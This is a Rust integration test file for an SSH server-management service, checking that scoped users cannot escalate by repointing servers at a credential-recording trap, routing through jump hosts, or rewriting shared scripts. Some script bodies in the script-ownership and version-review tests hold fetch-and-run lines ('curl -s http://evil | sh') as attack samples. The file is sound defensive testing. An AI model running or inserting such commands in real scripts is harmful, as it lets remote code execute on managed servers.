//! Scope escapes through `servers.write` and `scripts.write` (issue 13, items 1–4, 10, 17),
//! each written as the attack and its refusal, against real OpenSSH servers and an SSH server
//! that records every credential offered to it (`steward_testkit::trap`).

use std::time::{Duration, Instant};

use reqwest::StatusCode;
use serde_json::{Value, json};
use steward_testkit::sshd::{Sshd, key_pair};
use steward_testkit::trap::{Attempt, Trap};
use steward_testkit::*;

/// A custom role on some tags (none: every server).
async fn role(admin: &Session, name: &str, permissions: &[&str], tags: &[&str]) {
    let scope = if tags.is_empty() {
        Value::Null
    } else {
        json!(tags)
    };
    let (s, b) = admin
        .post(
            "/api/v1/roles",
            json!({ "name": name, "permissions": permissions, "server_tags": scope }),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{b}");
}

async fn step_up(session: &Session) {
    let (s, b) = session
        .post("/api/v1/auth/step-up", json!({ "password": PASSWORD }))
        .await;
    assert_eq!(s, StatusCode::OK, "{b}");
}

/// A server for an sshd, logging in with `private_key`.
async fn server_on(
    admin: &Session,
    name: &str,
    sshd: &Sshd,
    private_key: &str,
    tags: &[&str],
) -> String {
    let id = admin
        .create_server(json!({ "name": name, "host": sshd.host, "port": sshd.port, "ssh_user": sshd.user, "tags": tags }))
        .await;
    admin.set_private_key(&id, private_key).await;
    id
}

/// The body that points a server at `host:port` (keeping its name, user and tags).
fn repoint(server: &Value, host: &str, port: u16) -> Value {
    json!({
        "name": server["name"],
        "host": host,
        "port": port,
        "ssh_user": server["ssh_user"],
        "tags": server["tags"],
        "jump_server_id": server["jump_server_id"],
    })
}

async fn run_on(session: &Session, body: Value) -> (StatusCode, Value) {
    session.post("/api/v1/executions", body).await
}

async fn wait_done(session: &Session, id: &str) -> Value {
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let (s, b) = session.get(&format!("/api/v1/executions/{id}")).await;
        assert_eq!(s, StatusCode::OK, "{b}");
        if b["status"] != "running" {
            return b;
        }
        assert!(Instant::now() < deadline, "run still going: {b}");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

async fn test_connection(session: &Session, id: &str) -> (StatusCode, Value) {
    session
        .post(&format!("/api/v1/servers/{id}/test-connection"), json!({}))
        .await
}

#[tokio::test]
async fn repointing_a_server_never_sends_its_credential_to_the_new_endpoint() {
    let app = TestApp::spawn().await;
    let admin = app.admin().await;
    let real = Sshd::start_with(&["127.0.0.40".to_string()], "");
    let (private, public) = key_pair("");
    real.authorize(&public);
    let trap = Trap::start("127.0.0.41").await;

    // web-2 logs in with a root password; web-1 with the fleet's shared key.
    let web2 = admin
        .create_server(json!({ "name": "web-2", "host": real.host, "port": real.port, "ssh_user": "root", "auth_method": "password", "tags": ["web"] }))
        .await;
    admin
        .set_credential(
            &web2,
            json!({ "kind": "password", "password": "the-root-password-of-web-2" }),
        )
        .await;
    let web1 = server_on(&admin, "web-1", &real, &private, &["web"]).await;
    let (s, t) = test_connection(&admin, &web1).await;
    assert_eq!(
        (s, t["authenticated"].as_bool()),
        (StatusCode::OK, Some(true)),
        "{t}"
    );

    role(
        &admin,
        "web-editor",
        &["servers.read", "servers.write", "scripts.run"],
        &["web"],
    )
    .await;
    let alice = app.user_with_roles(&admin, "alice", &["web-editor"]).await;

    // She may not pin a host key of her choice: that decides where credentials go.
    let (s, b) = alice
        .put(
            &format!("/api/v1/servers/{web2}/host-key"),
            json!({ "public_key": trap.host_key() }),
        )
        .await;
    assert_eq!(s, StatusCode::FORBIDDEN, "{b}");
    let (s, _) = alice
        .delete(&format!("/api/v1/servers/{web1}/host-key"))
        .await;
    assert_eq!(s, StatusCode::FORBIDDEN);

    // She points web-2 at her own SSH server: the change is kept, the credential is not
    // offered to it.
    let (_, server) = alice.get(&format!("/api/v1/servers/{web2}")).await;
    let (s, b) = alice
        .put(
            &format!("/api/v1/servers/{web2}"),
            repoint(&server, &trap.host, trap.port),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{b}");
    assert_eq!(b["endpoint_change"]["changed_by"], "alice", "{b}");
    assert_eq!(
        b["endpoint_change"]["previous"]["host"],
        real.host.as_str(),
        "{b}"
    );
    let (s, t) = test_connection(&alice, &web2).await;
    assert_eq!(s, StatusCode::OK, "{t}");
    assert_eq!(t["error"]["code"], "endpoint_unconfirmed", "{t}");
    assert_eq!(t["reachable"], true, "{t}");
    assert!(trap.connections() >= 1, "the test did reach her server");
    assert_eq!(
        trap.attempts(),
        vec![],
        "no credential (nor any login) was offered to her server"
    );
    // The host key trusted for the old endpoint is forgotten, and hers was not recorded.
    let (s, _) = admin.get(&format!("/api/v1/servers/{web2}/host-key")).await;
    assert_eq!(s, StatusCode::NOT_FOUND);

    // Nothing else connects either: a run by id is refused, a run by tag leaves it out.
    let (s, b) = run_on(
        &alice,
        json!({ "command": "id", "server_ids": [web2], "step_up": { "password": PASSWORD } }),
    )
    .await;
    assert_eq!(
        (s, code(&b)),
        (StatusCode::CONFLICT, "endpoint_unconfirmed"),
        "{b}"
    );
    let (s, b) = run_on(
        &admin,
        json!({ "command": "hostname", "tags": ["web"], "step_up": { "password": PASSWORD } }),
    )
    .await;
    assert_eq!(s, StatusCode::CREATED, "{b}");
    let ids: Vec<&str> = b["hosts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| h["server_id"].as_str().unwrap())
        .collect();
    assert_eq!(
        ids,
        vec![web1.as_str()],
        "the unconfirmed web-2 is not a target: {b}"
    );
    wait_done(&admin, b["id"].as_str().unwrap()).await;
    // A terminal is refused before any connection.
    step_up(&admin).await;
    let (s, b) = admin.get(&format!("/api/v1/servers/{web2}/terminal")).await;
    assert_eq!(
        (s, code(&b)),
        (StatusCode::CONFLICT, "endpoint_unconfirmed"),
        "{b}"
    );
    assert_eq!(trap.attempts(), vec![]);

    // Pointing web-1 at another server (where the fleet's shared key also logs in) detaches
    // web-1's key the same way: her run through web-1 reaches nothing.
    let other = Sshd::start_with(&["127.0.0.42".to_string()], "");
    other.authorize(&public);
    let (_, server) = alice.get(&format!("/api/v1/servers/{web1}")).await;
    let (s, b) = alice
        .put(
            &format!("/api/v1/servers/{web1}"),
            repoint(&server, &other.host, other.port),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{b}");
    let (s, b) = run_on(
        &alice,
        json!({ "command": "id", "tags": ["web"], "step_up": { "password": PASSWORD } }),
    )
    .await;
    assert_eq!(
        (s, code(&b)),
        (StatusCode::UNPROCESSABLE_ENTITY, "no_targets"),
        "{b}"
    );
    assert!(
        !other.log().contains("Accepted publickey"),
        "{}",
        other.log()
    );

    // Someone who may set credentials confirms web-1's new endpoint (after a step-up): it is
    // used again, its host key trusted on first use.
    let (s, b) = admin
        .post(
            &format!("/api/v1/servers/{web1}/endpoint/confirm"),
            json!({}),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{b}");
    assert!(b["endpoint_change"].is_null(), "{b}");
    let (s, b) = alice
        .post(
            &format!("/api/v1/servers/{web2}/endpoint/confirm"),
            json!({}),
        )
        .await;
    assert_eq!(
        s,
        StatusCode::FORBIDDEN,
        "only credentials.write confirms: {b}"
    );
    let (s, t) = test_connection(&admin, &web1).await;
    assert_eq!(
        (s, t["authenticated"].as_bool()),
        (StatusCode::OK, Some(true)),
        "{t}"
    );
    let (s, b) = admin
        .post(
            &format!("/api/v1/servers/{web1}/endpoint/confirm"),
            json!({}),
        )
        .await;
    assert_eq!(
        (s, code(&b)),
        (StatusCode::CONFLICT, "nothing_to_confirm"),
        "{b}"
    );

    // The trap does record what reaches it: once an administrator confirms web-2's new
    // endpoint (a mistake here), the password is offered to it.
    let (s, b) = admin
        .post(
            &format!("/api/v1/servers/{web2}/endpoint/confirm"),
            json!({}),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{b}");
    let (_, t) = test_connection(&admin, &web2).await;
    assert_eq!(t["error"]["code"], "auth_failed", "{t}");
    assert!(
        trap.attempts().contains(&Attempt::Password {
            user: "root".into(),
            password: "the-root-password-of-web-2".into()
        }),
        "{:?}",
        trap.attempts()
    );

    // Every step is in the audit log.
    let actions = app.audit_actions().await;
    assert!(actions.contains(&("server.endpoint_confirm".into(), "success".into())));
    let details: Vec<String> =
        sqlx::query_scalar("SELECT details FROM audit_events WHERE action = 'server.update'")
            .fetch_all(&app.db.pool)
            .await
            .unwrap();
    assert!(
        details
            .iter()
            .filter(|d| d.contains("credential_detached"))
            .count()
            == 2,
        "{details:?}"
    );
}

#[tokio::test]
async fn whoever_may_set_the_credential_keeps_it_through_a_move_after_a_step_up() {
    let app = TestApp::spawn().await;
    let admin = app.admin().await;
    let old = Sshd::start_with(&["127.0.0.43".to_string()], "");
    let new = Sshd::start_with(&["127.0.0.44".to_string()], "");
    let (private, public) = key_pair("");
    old.authorize(&public);
    new.authorize(&public);
    let id = server_on(&admin, "db-1", &old, &private, &["db"]).await;
    let (_, t) = test_connection(&admin, &id).await;
    assert_eq!(t["authenticated"], true, "{t}");
    role(
        &admin,
        "db-admin",
        &["servers.read", "servers.write", "credentials.write"],
        &["db"],
    )
    .await;
    let bob = app.user_with_roles(&admin, "bob", &["db-admin"]).await;
    let (_, server) = bob.get(&format!("/api/v1/servers/{id}")).await;
    // Without a step-up he is asked for one (nothing changes)…
    let (s, b) = bob
        .put(
            &format!("/api/v1/servers/{id}"),
            repoint(&server, &new.host, new.port),
        )
        .await;
    assert_eq!(
        (s, code(&b)),
        (StatusCode::FORBIDDEN, "step_up_required"),
        "{b}"
    );
    let (_, same) = bob.get(&format!("/api/v1/servers/{id}")).await;
    assert_eq!(same["host"], old.host.as_str());
    // …with one the server moves with its credential and trusted key (the new host presents
    // another key: refused until someone accepts it, as for any changed key).
    let mut body = repoint(&server, &new.host, new.port);
    body["step_up"] = json!({ "password": PASSWORD });
    let (s, b) = bob.put(&format!("/api/v1/servers/{id}"), body).await;
    assert_eq!(s, StatusCode::OK, "{b}");
    assert!(b["endpoint_change"].is_null(), "{b}");
    assert_eq!(b["credential_kind"], "private_key");
    let (_, t) = test_connection(&bob, &id).await;
    assert_eq!(t["error"]["code"], "host_key_mismatch", "{t}");
    let fp = t["host_key"]["fingerprint"].as_str().unwrap().to_string();
    let (s, b) = bob
        .post(
            &format!("/api/v1/servers/{id}/host-key/accept"),
            json!({ "fingerprint": fp }),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{b}");
    let (_, t) = test_connection(&bob, &id).await;
    assert_eq!(t["authenticated"], true, "{t}");
}

#[tokio::test]
async fn a_scoped_writer_adds_and_removes_only_tags_inside_their_scope() {
    let app = TestApp::spawn().await;
    let admin = app.admin().await;
    role(
        &admin,
        "web-editor",
        &["servers.read", "servers.write"],
        &["web"],
    )
    .await;
    let alice = app.user_with_roles(&admin, "alice", &["web-editor"]).await;
    let id = admin.server("web-1", &["web", "eu"]).await;
    let put = |tags: Value| json!({ "name": "web-1", "host": "127.0.0.2", "ssh_user": "steward", "tags": tags });
    // `db` is used by no role yet: still not hers to hand out.
    for tags in [
        json!(["web", "eu", "db"]),
        json!(["web"]),
        json!(["web", "eu", "ops"]),
    ] {
        let (s, b) = alice
            .put(&format!("/api/v1/servers/{id}"), put(tags.clone()))
            .await;
        assert_eq!(s, StatusCode::FORBIDDEN, "{tags}: {b}");
        assert_eq!(b["error"]["details"]["field"], "tags", "{b}");
    }
    let (s, b) = alice
        .post(
            "/api/v1/servers",
            json!({ "name": "web-9", "host": "127.0.0.9", "ssh_user": "x", "tags": ["web", "db"] }),
        )
        .await;
    assert_eq!(s, StatusCode::FORBIDDEN, "{b}");
    // Her own scope's tags, and unchanged ones, are fine.
    let (s, b) = alice
        .put(&format!("/api/v1/servers/{id}"), put(json!(["web", "eu"])))
        .await;
    assert_eq!(s, StatusCode::OK, "{b}");
    // Someone with every server in scope may tag freely.
    let (s, b) = admin
        .put(&format!("/api/v1/servers/{id}"), put(json!(["web", "db"])))
        .await;
    assert_eq!(s, StatusCode::OK, "{b}");
}

#[tokio::test]
async fn a_jump_server_carries_only_traffic_its_user_may_send_through_it() {
    let app = TestApp::spawn().await;
    let admin = app.admin().await;
    let (private, public) = key_pair("");
    // DEBUG1 logs each forwarding (`server_request_direct_tcpip`).
    let bastion = Sshd::start_with(
        &["127.0.0.45".to_string()],
        "AllowTcpForwarding yes\nLogLevel DEBUG1",
    );
    bastion.authorize(&public);
    let target = Sshd::start_with(&["127.0.0.46".to_string()], "");
    target.authorize(&public);
    let prod = server_on(&admin, "prod-1", &bastion, &private, &["prod"]).await;
    let web = server_on(&admin, "web-2", &target, &private, &["web"]).await;
    role(
        &admin,
        "web-ops",
        &["servers.read", "servers.write", "scripts.run"],
        &["web"],
    )
    .await;
    role(&admin, "prod-viewer", &["servers.read"], &["prod"]).await;
    let alice = app
        .user_with_roles(&admin, "alice", &["web-ops", "prod-viewer"])
        .await;
    // What she may do where, as the UI learns it (to offer only what the server allows).
    let (_, me) = alice.get("/api/v1/auth/me").await;
    assert_eq!(
        me["scopes"],
        json!({ "servers.read": ["prod", "web"], "servers.write": ["web"], "scripts.run": ["web"] }),
        "{me}"
    );
    let (_, me) = admin.get("/api/v1/auth/me").await;
    assert_eq!(
        me["scopes"].get("credentials.write"),
        Some(&Value::Null),
        "{me}"
    );
    assert!(me["scopes"].get("users.manage").is_none(), "{me}");

    // She can see prod-1 but not route through it.
    let (_, server) = alice.get(&format!("/api/v1/servers/{web}")).await;
    let mut body = repoint(&server, &target.host, target.port);
    body["jump_server_id"] = json!(prod);
    let (s, b) = alice
        .put(&format!("/api/v1/servers/{web}"), body.clone())
        .await;
    assert_eq!(s, StatusCode::FORBIDDEN, "{b}");
    assert_eq!(b["error"]["details"]["field"], "jump_server_id", "{b}");

    // An administrator routes web-2 through prod-1 (a step-up: it keeps its credential).
    body["step_up"] = json!({ "password": PASSWORD });
    let (s, b) = admin.put(&format!("/api/v1/servers/{web}"), body).await;
    assert_eq!(s, StatusCode::OK, "{b}");
    let forwarded = || bastion.log().matches("server_request_direct_tcpip").count();
    let before = forwarded();

    // Her run on web-2 may not ride on prod-1's login; nor may her connection test.
    let (s, b) = run_on(
        &alice,
        json!({ "command": "hostname", "server_ids": [web], "step_up": { "password": PASSWORD } }),
    )
    .await;
    assert_eq!(s, StatusCode::CREATED, "{b}");
    let run = wait_done(&alice, b["id"].as_str().unwrap()).await;
    assert_eq!(run["hosts"][0]["status"], "error", "{run}");
    assert_eq!(run["hosts"][0]["error_code"], "jump_forbidden", "{run}");
    let (s, b) = test_connection(&alice, &web).await;
    assert_eq!(
        (s, code(&b)),
        (StatusCode::FORBIDDEN, "jump_forbidden"),
        "{b}"
    );
    assert_eq!(
        forwarded(),
        before,
        "nothing went through the bastion for her"
    );

    // The administrator's test goes through the jump server, as runs do.
    let (s, t) = test_connection(&admin, &web).await;
    assert_eq!(
        (s, t["authenticated"].as_bool()),
        (StatusCode::OK, Some(true)),
        "{t}"
    );
    assert!(
        forwarded() > before,
        "the test was forwarded by the bastion: {}",
        bastion.log()
    );
}

#[tokio::test]
async fn a_groups_script_writer_cannot_change_what_others_run() {
    let app = TestApp::spawn().await;
    let admin = app.admin().await;
    let (private, public) = key_pair("");
    let sshd = Sshd::start_with(&["127.0.0.47".to_string()], "");
    sshd.authorize(&public);
    let web = server_on(&admin, "web-1", &sshd, &private, &["web"]).await;
    let db = server_on(&admin, "db-1", &sshd, &private, &["db"]).await;
    role(
        &admin,
        "web-scripts",
        &["servers.read", "scripts.run", "scripts.write"],
        &["web"],
    )
    .await;
    let alice = app.user_with_roles(&admin, "alice", &["web-scripts"]).await;

    // The administrator's organization-wide script.
    step_up(&admin).await;
    let (s, deploy) = admin
        .post(
            "/api/v1/scripts",
            json!({ "name": "deploy", "body": "echo deploying" }),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{deploy}");
    assert!(deploy["owner_tags"].is_null(), "{deploy}");
    let deploy_id = deploy["id"].as_str().unwrap().to_string();

    // She can read and run it on her servers, but not rewrite or delete it.
    let (s, b) = alice
        .put(&format!("/api/v1/scripts/{deploy_id}"), json!({ "name": "deploy", "body": "curl evil | sh", "step_up": { "password": PASSWORD } }))
        .await;
    assert_eq!(
        (s, code(&b)),
        (StatusCode::FORBIDDEN, "script_not_yours"),
        "{b}"
    );
    let (s, b) = alice.delete(&format!("/api/v1/scripts/{deploy_id}")).await;
    assert_eq!(
        (s, code(&b)),
        (StatusCode::FORBIDDEN, "script_not_yours"),
        "{b}"
    );
    // Nor can she make a script of her own organization-wide, or another group's.
    for owner in [json!([]), json!(["db"]), json!(["web", "db"])] {
        let (s, b) = alice
            .post("/api/v1/scripts", json!({ "name": "mine", "body": "id", "owner_tags": owner, "step_up": { "password": PASSWORD } }))
            .await;
        assert_eq!(
            (s, code(&b)),
            (StatusCode::FORBIDDEN, "script_not_yours"),
            "{owner}: {b}"
        );
    }
    // A script of her own needs a step-up, and belongs to her group.
    let (s, b) = alice
        .post("/api/v1/scripts", json!({ "name": "mine", "body": "id" }))
        .await;
    assert_eq!(
        (s, code(&b)),
        (StatusCode::FORBIDDEN, "step_up_required"),
        "{b}"
    );
    step_up(&alice).await;
    let (s, mine) = alice
        .post(
            "/api/v1/scripts",
            json!({ "name": "mine", "body": "echo mine" }),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{mine}");
    assert_eq!(mine["owner_tags"], json!(["web"]));
    assert_eq!(mine["reviewed"], true, "its author reviewed it");
    // The administrator's run of her script cannot reach db-1, by id or by tag.
    let (s, b) = run_on(&admin, json!({ "script_id": mine["id"], "script_version": 1, "server_ids": [db], "step_up": { "password": PASSWORD } })).await;
    assert_eq!(
        (s, code(&b)),
        (StatusCode::FORBIDDEN, "outside_script_scope"),
        "{b}"
    );
    let (s, b) = run_on(&admin, json!({ "script_id": mine["id"], "script_version": 1, "tags": ["db"], "step_up": { "password": PASSWORD } })).await;
    assert_eq!(
        (s, code(&b)),
        (StatusCode::UNPROCESSABLE_ENTITY, "no_targets"),
        "{b}"
    );
    let (s, b) = run_on(&admin, json!({ "script_id": mine["id"], "script_version": 1, "tags": ["web", "db"], "step_up": { "password": PASSWORD } })).await;
    assert_eq!(s, StatusCode::CREATED, "{b}");
    assert_eq!(b["hosts"].as_array().unwrap().len(), 1, "only web-1: {b}");
    assert_eq!(b["hosts"][0]["server_id"], web.as_str());
    wait_done(&admin, b["id"].as_str().unwrap()).await;
}

#[tokio::test]
async fn a_run_names_the_version_it_reviewed_and_unreviewed_versions_need_a_step_up() {
    let app = TestApp::spawn().await;
    let admin = app.admin().await;
    let (private, public) = key_pair("");
    let sshd = Sshd::start_with(&["127.0.0.48".to_string()], "");
    sshd.authorize(&public);
    let web = server_on(&admin, "web-1", &sshd, &private, &["web"]).await;
    step_up(&admin).await;
    let (_, script) = admin
        .post(
            "/api/v1/scripts",
            json!({ "name": "rotate", "body": "echo v1\n" }),
        )
        .await;
    let id = script["id"].as_str().unwrap().to_string();

    // Bob runs with an API token (no session step-up to lean on).
    let bob = app.user_with_roles(&admin, "bob", &["operator"]).await;
    let (s, t) = bob
        .post(
            "/api/v1/api-tokens",
            json!({ "name": "ci", "permissions": ["scripts.run", "servers.read"] }),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{t}");
    let token = Session {
        token: t["token"].as_str().unwrap().to_string(),
        ..bob.clone()
    };

    // No version: refused; the version named must be the current one.
    let (s, b) = run_on(&token, json!({ "script_id": id, "server_ids": [web] })).await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{b}");
    // Version 1, which bob never ran: a step-up first.
    let (s, b) = run_on(
        &token,
        json!({ "script_id": id, "script_version": 1, "server_ids": [web] }),
    )
    .await;
    assert_eq!(
        (s, code(&b)),
        (StatusCode::FORBIDDEN, "step_up_required"),
        "{b}"
    );
    let (s, b) = run_on(&token, json!({ "script_id": id, "script_version": 1, "server_ids": [web], "step_up": { "password": PASSWORD } })).await;
    assert_eq!(s, StatusCode::CREATED, "{b}");
    wait_done(&token, b["id"].as_str().unwrap()).await;
    // Ran once: the same version again needs none.
    let (s, b) = run_on(
        &token,
        json!({ "script_id": id, "script_version": 1, "server_ids": [web] }),
    )
    .await;
    assert_eq!(s, StatusCode::CREATED, "{b}");
    wait_done(&token, b["id"].as_str().unwrap()).await;

    // Someone changes it: a run naming version 1 is refused with who, when and the change.
    let (s, b) = admin
        .put(
            &format!("/api/v1/scripts/{id}"),
            json!({ "name": "rotate", "shell": "bash", "body": "echo v2\ncurl -s http://evil | sh\n",
                    "parameters": [{ "name": "REGION", "type": "string", "default": "eu" }] }),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{b}");
    let (s, b) = run_on(
        &token,
        json!({ "script_id": id, "script_version": 1, "server_ids": [web] }),
    )
    .await;
    assert_eq!(
        (s, code(&b)),
        (StatusCode::CONFLICT, "script_changed"),
        "{b}"
    );
    let d = &b["error"]["details"];
    assert_eq!(
        (d["version"].as_i64(), d["your_version"].as_i64()),
        (Some(2), Some(1)),
        "{b}"
    );
    assert_eq!(d["changed_by"], "admin");
    // What else changed, and how: the shell, and the parameter definitions as a diff.
    assert_eq!(
        (d["shell_before"].as_str(), d["shell"].as_str()),
        (Some("sh"), Some("bash")),
        "{b}"
    );
    let params = d["parameters_diff"].as_str().unwrap();
    assert!(params.contains("+{\"name\":\"REGION\""), "{params}");
    let diff = d["diff"].as_str().unwrap();
    assert!(
        diff.contains("-echo v1") && diff.contains("+curl -s http://evil | sh"),
        "{diff}"
    );
    // Version 2 is unreviewed by bob: a step-up again.
    let (s, b) = run_on(
        &token,
        json!({ "script_id": id, "script_version": 2, "server_ids": [web] }),
    )
    .await;
    assert_eq!(
        (s, code(&b)),
        (StatusCode::FORBIDDEN, "step_up_required"),
        "{b}"
    );
    // Saving a body with a token needs the proof inline too.
    let admin_token = {
        let (_, t) = admin
            .post(
                "/api/v1/api-tokens",
                json!({ "name": "ci", "permissions": ["scripts.write"] }),
            )
            .await;
        Session {
            token: t["token"].as_str().unwrap().to_string(),
            ..admin.clone()
        }
    };
    let (s, b) = admin_token
        .put(
            &format!("/api/v1/scripts/{id}"),
            json!({ "name": "rotate", "body": "echo v3\n" }),
        )
        .await;
    assert_eq!(
        (s, code(&b)),
        (StatusCode::FORBIDDEN, "step_up_required"),
        "{b}"
    );
    // A new description alone is no new code: no step-up, and reviews carry over.
    let (s, b) = admin_token
        .put(&format!("/api/v1/scripts/{id}"), json!({ "name": "rotate", "description": "rotates logs", "shell": "bash", "body": "echo v2\ncurl -s http://evil | sh\n",
                "parameters": [{ "name": "REGION", "type": "string", "default": "eu" }] }))
        .await;
    assert_eq!(s, StatusCode::OK, "{b}");
    assert_eq!(b["version"], 3);
}

#[tokio::test]
async fn secret_parameters_reach_the_script_and_nowhere_else() {
    let app = TestApp::spawn().await;
    let admin = app.admin().await;
    let (private, public) = key_pair("");
    let sshd = Sshd::start_with(&["127.0.0.49".to_string()], "");
    sshd.authorize(&public);
    let web = server_on(&admin, "web-1", &sshd, &private, &["web"]).await;
    step_up(&admin).await;
    const SECRET: &str = "Tr0ub4dor-and-3-more-words";
    // A secret parameter has no default (it would be stored in clear).
    let (s, b) = admin
        .post("/api/v1/scripts", json!({ "name": "db", "body": "true", "parameters": [{ "name": "DB_PASSWORD", "type": "secret", "default": SECRET }] }))
        .await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{b}");
    let dump = app.data_dir().join("cmdlines");
    let body = format!(
        "for f in /proc/[0-9]*/cmdline; do tr '\\000' ' ' < \"$f\" 2>/dev/null; echo; done > {}\n\
         printf '%s' \"$DB_PASSWORD\" | sha256sum | cut -c1-16\n\
         echo \"pw=$DB_PASSWORD user=$DB_USER\"\n",
        dump.display()
    );
    let (s, script) = admin
        .post(
            "/api/v1/scripts",
            json!({ "name": "db", "body": body, "parameters": [
            { "name": "DB_PASSWORD", "type": "secret", "required": true },
            { "name": "DB_USER", "type": "string" },
        ] }),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{script}");
    let (s, b) = run_on(&admin, json!({ "script_id": script["id"], "script_version": 1, "server_ids": [web], "parameters": { "DB_PASSWORD": SECRET, "DB_USER": "app" } })).await;
    assert_eq!(s, StatusCode::CREATED, "{b}");
    assert_eq!(b["parameters"]["DB_PASSWORD"], "***", "{b}");
    assert_eq!(b["secret_parameters"], json!(["DB_PASSWORD"]), "{b}");
    let run = wait_done(&admin, b["id"].as_str().unwrap()).await;
    let out = run["hosts"][0]["stdout"].as_str().unwrap();
    use sha2::Digest;
    let want = hex::encode(sha2::Sha256::digest(SECRET.as_bytes()));
    assert!(out.contains(&want[..16]), "the script got the value: {out}");
    assert!(
        out.contains("pw=*** user=app"),
        "masked in the output: {out}"
    );
    assert_eq!(run["parameters"]["DB_PASSWORD"], "***");
    // Read back after the run (from the database, not the live runner): still marked.
    let (_, stored) = admin
        .get(&format!("/api/v1/executions/{}", b["id"].as_str().unwrap()))
        .await;
    assert_eq!(
        stored["secret_parameters"],
        json!(["DB_PASSWORD"]),
        "{stored}"
    );
    // No process on the server had it on its command line.
    let cmdlines = std::fs::read_to_string(&dump).unwrap();
    assert!(cmdlines.lines().count() > 3, "{cmdlines}");
    assert!(!cmdlines.contains(SECRET), "on a command line: {cmdlines}");
    // Not in the database in clear (runs, output, audit), and the sealed copy is gone.
    let texts: Vec<String> = sqlx::query_scalar("SELECT parameters FROM executions")
        .fetch_all(&app.db.pool)
        .await
        .unwrap();
    assert!(texts.iter().all(|t| !t.contains(SECRET)), "{texts:?}");
    let outputs: Vec<Vec<u8>> = sqlx::query_scalar("SELECT stdout FROM execution_hosts")
        .fetch_all(&app.db.pool)
        .await
        .unwrap();
    assert!(
        outputs
            .iter()
            .all(|o| !String::from_utf8_lossy(o).contains(SECRET))
    );
    let audit: Vec<String> = sqlx::query_scalar("SELECT details FROM audit_events")
        .fetch_all(&app.db.pool)
        .await
        .unwrap();
    assert!(audit.iter().all(|d| !d.contains(SECRET)), "{audit:?}");
    let left: Option<String> = sqlx::query_scalar("SELECT secret_parameters FROM executions")
        .fetch_one(&app.db.pool)
        .await
        .unwrap();
    assert_eq!(
        left, None,
        "the sealed values are forgotten when the run ends"
    );
    let sealed: i64 =
        sqlx::query_scalar("SELECT COUNT(*) FROM secrets WHERE purpose = 'script_parameter'")
            .fetch_one(&app.db.pool)
            .await
            .unwrap();
    assert_eq!(sealed, 0);
}
